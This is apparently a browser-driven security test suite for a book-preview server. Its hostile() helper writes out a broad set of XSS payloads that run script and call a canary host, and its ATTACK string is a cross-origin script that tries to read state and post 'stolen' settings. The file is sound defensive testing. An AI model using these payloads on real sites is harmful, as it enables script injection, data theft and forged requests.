"""The preview against a hostile manuscript and a hostile web page, in a real browser.

A manuscript is cleaned long before it gets here; what is tried below goes past that, to prove the second line: whatever
stands in a chapter, nothing runs and nothing leaves. The other half is a page of someone else's in the same browser.
"""

import json
import os
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page

from packager.preview import ports
from packager.preview.desk import Desk
from packager.preview.editor import Editor
from packager.preview.guard import Doors, Guard
from packager.preview.listening import Server
from packager.preview.passes import Pass
from packager.preview.server import create
from packager.preview.session import Session, Version
from packager.preview.state import Settings
from tests.browsers import ARGUMENTS, CHROMIUM, chromium
from tests.preview.conftest import BOOK

pytestmark = [
    pytest.mark.slow,
    pytest.mark.xdist_group("browser"),
    pytest.mark.skipif(not CHROMIUM, reason="no Chromium on this machine"),
]
ALONE = (
    *ARGUMENTS,
    "--disable-component-update",
    "--disable-sync",
    "--host-resolver-rules=MAP evil.example 127.0.0.1",
)
"""Asks for nothing by itself, and takes a name for this machine's."""
PATIENCE = 60.0


@dataclass
class Canary:
    """A server of someone else's: serves the page it is given, notes every request."""

    port: int = 0
    page: str = ""
    requests: list[str] = field(default_factory=list)


@dataclass
class Live:
    """A preview on a port."""

    folder: Path
    port: int
    guard: Guard
    desk: Desk
    hostile: list[str]
    """Markup that is put into the chapter `ebb` behind everything that would clean it."""

    @property
    def home(self) -> str:
        """Its origin."""
        return f"http://127.0.0.1:{self.port}"

    def save(self, text: str) -> None:
        """Write the chapter `ebb`."""
        (self.folder / "01-ebb.md").write_text(text)


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """Start Chromium."""
    with chromium(ALONE) as browser:
        yield browser


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    """Give a browser that remembers nothing."""
    context = browser.new_context()
    context.set_default_timeout(PATIENCE * 1000)
    yield context
    context.close()


@pytest.fixture
def canary() -> Iterator[Canary]:
    """Serve someone else's page from another port."""
    made = Canary()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            made.requests.append(self.path)
            data = made.page.encode() if self.path == "/" else b""
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        do_POST = do_GET

        def log_message(self, format: str, *args: object) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    made.port = server.server_port
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield made
    server.shutdown()
    server.server_close()


@pytest.fixture
def live(book: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Live]:
    """Serve the preview of a small book, with an editor that notes that it was called."""
    opened = ports.listen(0)
    port = opened.getsockname()[1]
    editor = Editor(("sh", "-c", f"touch {tmp_path}/opened", "{file}"))
    desk = Desk(Session(book), Settings(book), editor=editor)
    guard = Guard(create(desk), Pass.local(port))
    server = Server(Doors({port: guard}), desk, [])
    made = Live(book, port, guard, desk, [])
    clean = Version.document

    def document(version: Version, chapter: str) -> str:
        return clean(version, chapter).replace("</section>", "".join(made.hostile) + "</section>", 1)

    monkeypatch.setattr(Version, "document", document)
    thread = threading.Thread(target=server.run, kwargs={"sockets": [opened]}, daemon=True)
    thread.start()
    yield made
    server.end()
    thread.join(10)
    opened.close()
    assert not thread.is_alive()


def enter(context: BrowserContext, live: Live) -> Page:
    """Open the preview as its author does; the browser has the cookie afterwards."""
    page = context.new_page()
    page.goto(f"{live.home}/?t={live.guard.admitted.token}")
    return page


def until(page: Page, what: Callable[[], Any]) -> Any:
    """Wait until something is so; Playwright hears of nothing while we sleep."""
    end = time.monotonic() + PATIENCE
    while not (found := what()):
        assert time.monotonic() < end, "never came"
        page.wait_for_timeout(30)
    return found


def hostile(canary: Canary) -> str:
    """Write markup that tries to run and to call home in every way that XHTML knows."""
    away = f"http://127.0.0.1:{canary.port}"
    run = f"top.pwned=1;window.pwned=1;fetch('{away}/ran')".replace("&", "&amp;")
    return f"""
    <script>{run}</script>
    <script src="{away}/script.js"></script>
    <script type="module">import "{away}/module.js"</script>
    <img src="x" onerror="{run}" alt=""/>
    <img src="{away}/image.png" srcset="{away}/image2.png 2x" alt=""/>
    <svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><script>{run}</script>
      <image href="{away}/svg.png"/><use href="{away}/use.svg#a"/><animate onbegin="{run}" attributeName="x" dur="1s"/>
      <foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="{run}"/></foreignObject></svg>
    <a id="trap" href="javascript:{run}">trap</a>
    <a id="leave" href="{away}/followed" target="_top" ping="{away}/ping">leave</a>
    <iframe src="{away}/frame"></iframe>
    <iframe srcdoc="&lt;script&gt;{run}&lt;/script&gt;"></iframe>
    <iframe src="javascript:{run}"></iframe>
    <object data="{away}/object"></object>
    <embed src="{away}/embed"/>
    <video src="{away}/video" poster="{away}/poster" autoplay="autoplay"></video>
    <audio src="{away}/audio" autoplay="autoplay"></audio>
    <link rel="stylesheet" href="{away}/style.css"/>
    <link rel="prefetch" href="{away}/prefetch"/>
    <link rel="dns-prefetch" href="//evil.example"/>
    <style>@import url({away}/import.css); @font-face {{ font-family: X; src: url({away}/font) }}
      body {{ background: url({away}/background); font-family: X }}</style>
    <p style="background-image: url({away}/inline)">styled</p>
    <meta http-equiv="refresh" content="0;url={away}/refresh"/>
    <base href="{away}/base/"/>
    <form id="form" action="{away}/form" method="post"><input name="a" value="b"/><button>send</button></form>
    <details open="open" ontoggle="{run}"><summary>x</summary></details>
    <input autofocus="autofocus" onfocus="{run}"/>
    <marquee onstart="{run}">x</marquee>
    """


def test_what_is_tried_here_does_harm_elsewhere(context: BrowserContext, canary: Canary) -> None:
    canary.page = f"<!doctype html><p>{hostile(canary).replace('http-equiv', 'data-off')}"
    page = context.new_page()
    page.goto(f"http://127.0.0.1:{canary.port}/", wait_until="commit")
    until(page, lambda: {"/ran", "/script.js", "/style.css", "/frame", "/image2.png"} & {*canary.requests})
    assert page.evaluate("window.pwned") == 1


def test_a_hostile_chapter_opened_by_itself_runs_and_sends_nothing(
    context: BrowserContext, live: Live, canary: Canary
) -> None:
    live.hostile.append(hostile(canary))
    enter(context, live)
    page = context.new_page()
    answer = page.goto(f"{live.home}/chapter/ebb")
    assert answer
    assert "top.pwned" in answer.text()
    page.wait_for_timeout(500)
    assert page.evaluate("window.pwned") is None
    for name in ("trap", "form"):
        page.evaluate(f"document.getElementById('{name}').{'click' if name == 'trap' else 'submit'}()")
    page.wait_for_timeout(300)
    assert page.url == f"{live.home}/chapter/ebb"
    assert page.evaluate("window.pwned") is None
    assert canary.requests == []


DEAF = """
    const Real = Event;
    window.Event = class extends Real {
        constructor(kind, ...more) { super(kind === 'packager' ? 'lost' : kind, ...more); }
    };
"""
"""Makes the page believe that nobody can listen in a sandbox without scripts, as in Safari."""


@pytest.mark.parametrize("deaf", [False, True], ids=["sandbox", "sandbox with scripts"])
def test_a_hostile_chapter_in_the_page_runs_and_sends_nothing_at_first_nor_after_a_save(
    context: BrowserContext, live: Live, canary: Canary, deaf: bool
) -> None:
    if deaf:
        context.add_init_script(DEAF)
    page = enter(context, live)
    page.goto(f"{live.home}/#01-ebb.md:3")
    address = "/chapter/ebb?heard" if deaf else "/chapter/ebb"
    frame = until(page, lambda: next((f for f in page.frames if f.url.endswith(address)), None))
    assert ("allow-scripts" in (page.get_attribute("#frame", "sandbox") or "")) is deaf
    until(page, lambda: "noon" in frame.content())
    live.hostile.append(hostile(canary))
    live.save(BOOK["01-ebb.md"].replace("noon", "eleven"))
    until(page, lambda: "eleven" in frame.content())
    until(page, lambda: frame.evaluate("document.getElementById('trap') !== null"))
    page.wait_for_timeout(500)
    for name in ("trap", "leave"):
        frame.evaluate(f"document.getElementById('{name}').click()")
    frame.evaluate("document.getElementById('form').submit()")
    page.wait_for_timeout(500)
    assert page.evaluate("window.pwned") is None
    assert canary.requests == []
    assert page.url.startswith(live.home)
    page.reload()
    page.wait_for_timeout(1000)
    assert page.evaluate("window.pwned") is None
    assert canary.requests == []


def test_a_hostile_manuscript_comes_clean_to_the_page(context: BrowserContext, live: Live, canary: Canary) -> None:
    away = f"http://127.0.0.1:{canary.port}"
    live.save(
        f"# Ebb\n\n<script>top.pwned=1</script>\n\n<img src=x onerror=top.pwned=1>\n\n![a]({away}/a.png)\n\n"
        f'[x](javascript:top.pwned=1)\n\n<iframe src="{away}/b"></iframe>\n\nThe end.\n'
    )
    page = enter(context, live)
    chapter = context.new_page()
    until(page, lambda: (chapter.goto(f"{live.home}/chapter/ebb"), "The end." in chapter.content())[1])
    assert chapter.evaluate("document.querySelectorAll('script, iframe, [onerror], a[href^=javascript]').length") == 0
    page.wait_for_timeout(300)
    assert page.evaluate("window.pwned") is None
    assert canary.requests == []


def test_markup_in_names_is_shown_as_it_is_written(context: BrowserContext, live: Live) -> None:
    markup = "<img src=x onerror=top.pwned=1>"
    (live.folder / "book.md").write_text(f"---\ntitle: '{markup} title'\nauthor: '{markup}'\nlang: en\n---\n")
    (live.folder / f"03-{markup}.md").write_text(f"# `{markup} head`\n\n![`{markup}`]({markup}.png)\n\n## `{markup}`\n")
    page = enter(context, live)
    shown = "document.body.innerText"
    for name in ("title", "head"):
        until(page, lambda name=name: f"{markup} {name}" in page.evaluate(shown))  # type: ignore[misc]
    page.get_by_text(f"{markup} head").first.click()
    until(page, lambda: f"03-{markup}.md:3" in page.evaluate(shown))
    for key in ("?", "Escape", "/", "Escape", "m", "Escape"):
        page.keyboard.press(key)
        page.wait_for_timeout(100)
    assert page.evaluate("document.querySelectorAll('[onerror]').length") == 0
    assert page.evaluate("window.pwned") is None


ATTACK = """<!doctype html><script>
const home = "%s", told = {};
window.done = (async () => {
  const attempt = async (name, work) => {
    try { told[name] = await Promise.race([work(), new Promise((done) => setTimeout(done, 3000, "silence"))]); }
    catch (fault) { told[name] = "blocked"; }
  };
  for (const path of ["/", "/api/state", "/chapter/ebb", "/static/index.html", "/events", "/style.css"]) {
    await attempt("read " + path, async () => (await fetch(home + path, {credentials: "include"})).text());
    await attempt("opaque " + path, async () =>
      (await fetch(home + path, {credentials: "include", mode: "no-cors"})).type);
  }
  const tag = (name, kind, attributes) => attempt(name, () => new Promise((done) => {
    const element = Object.assign(document.createElement(kind), attributes);
    element.onload = () => done("loaded");
    element.onerror = () => done("blocked");
    document.head.append(element);
  }));
  await tag("script", "script", {src: home + "/static/js/main.js"});
  await tag("state as script", "script", {src: home + "/api/state"});
  await tag("style", "link", {rel: "stylesheet", href: home + "/style.css"});
  await tag("image", "img", {src: home + "/static/icon.svg"});
  await attempt("events", () => new Promise((done) => {
    const source = new EventSource(home + "/events", {withCredentials: true});
    source.onmessage = source.onopen = () => done("heard");
    source.onerror = () => done("blocked");
  }));
  await attempt("socket", () => new Promise((done) => {
    const socket = new WebSocket(home.replace("http", "ws") + "/events");
    socket.onopen = () => done("open");
    socket.onerror = () => done("blocked");
  }));
  for (const kind of ["text/plain", "application/json"]) {
    for (const [path, body] of [["/api/settings", {stolen: true}], ["/api/open", {path: "01-ebb.md", line: 1}]]) {
      await attempt("post " + kind + path, async () => (await fetch(home + path, {
        method: "POST", mode: kind === "text/plain" ? "no-cors" : "cors", credentials: "include",
        headers: {"Content-Type": kind}, body: JSON.stringify(body)})).type);
    }
  }
  await attempt("frame", () => new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.src = home + "/";
    frame.onload = () => {
      try { done(frame.contentDocument ? "empty" : "opaque"); } catch { done("opaque"); }
    };
    document.documentElement.append(frame);
  }));
  await attempt("window", async () => {
    const other = window.open(home + "/");
    await new Promise((done) => setTimeout(done, 800));
    return other === null || other.closed ? "severed" : String(other.length);
  });
  const form = Object.assign(document.createElement("form"), {method: "post", action: home + "/api/settings",
    enctype: "text/plain", target: "hidden"});
  const frame = Object.assign(document.createElement("iframe"), {name: "hidden"});
  form.append(Object.assign(document.createElement("input"), {name: '{"stolen": true, "a', value: '": 1}'}));
  document.documentElement.append(frame, form);
  form.submit();
  await new Promise((done) => setTimeout(done, 500));
  return told;
})();
</script>"""


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost", "evil.example"], ids=["same-site", "cross-site", "web"])
def test_a_hostile_page_reads_nothing_and_changes_nothing(
    context: BrowserContext, live: Live, canary: Canary, tmp_path: Path, name: str
) -> None:
    page = enter(context, live)
    assert page.evaluate("fetch('/api/state').then((answer) => answer.status)") == 200
    before = live.desk.settings.values.get("stolen")
    canary.page = ATTACK % live.home
    attacker = context.new_page()
    attacker.goto(f"http://{name}:{canary.port}/")
    told = attacker.evaluate("window.done")
    read = {what: got for what, got in told.items() if what.startswith("read")}
    assert set(read.values()) == {"blocked"}, read
    for what in ("script", "state as script", "style", "image", "events", "socket"):
        assert told[what] == "blocked", (what, told)
    for what, got in told.items():
        if what.startswith(("opaque", "post")):
            assert got in ("blocked", "opaque"), (what, got)
    assert told["frame"] == "opaque"
    assert told["window"] in ("severed", "0", "1", "2", "3"), told
    assert "Tide" not in json.dumps(told)
    assert live.desk.settings.values.get("stolen") == before is None
    assert not os.path.exists(tmp_path / "opened")


def test_a_name_that_is_bound_to_this_machine_reads_nothing(context: BrowserContext, live: Live) -> None:
    enter(context, live)
    page = context.new_page()
    for target in ("/", "/api/state", f"/?t={live.guard.admitted.token}"):
        answer = page.goto(f"http://evil.example:{live.port}{target}")
        assert answer
        assert answer.status == 403
        assert "Tide" not in page.content()
    assert not [cookie for cookie in context.cookies() if "evil" in str(cookie.get("domain"))]


def test_the_cookie_is_out_of_reach(context: BrowserContext, live: Live) -> None:
    page = enter(context, live)
    assert page.evaluate("document.cookie") == ""
    assert live.guard.admitted.token not in page.content() + page.url
    (cookie,) = context.cookies()
    assert (cookie.get("httpOnly"), cookie.get("sameSite")) == (True, "Strict")


def test_without_the_address_that_was_printed_there_is_nothing(context: BrowserContext, live: Live) -> None:
    page = context.new_page()
    for target in ("/", "/api/state", "/chapter/ebb", "/static/js/main.js", "/?t=guess"):
        answer = page.goto(live.home + target)
        assert answer
        assert answer.status == 403


def test_the_pages_own_policy_lets_nothing_in(context: BrowserContext, live: Live, canary: Canary) -> None:
    page = enter(context, live)
    away = f"http://127.0.0.1:{canary.port}"
    ran = page.evaluate(
        """async (away) => {
          const tried = [];
          const script = Object.assign(document.createElement("script"), {textContent: "window.inline = 1"});
          document.head.append(script);
          tried.push(window.inline === undefined);
          try { await fetch(away + "/fetch"); tried.push(false); } catch { tried.push(true); }
          const image = new Image();
          tried.push(await new Promise((done) => {
            image.onload = () => done(false); image.onerror = () => done(true); image.src = away + "/image";
          }));
          return tried;
        }""",
        away,
    )
    assert ran == [True] * 3
    assert canary.requests == []
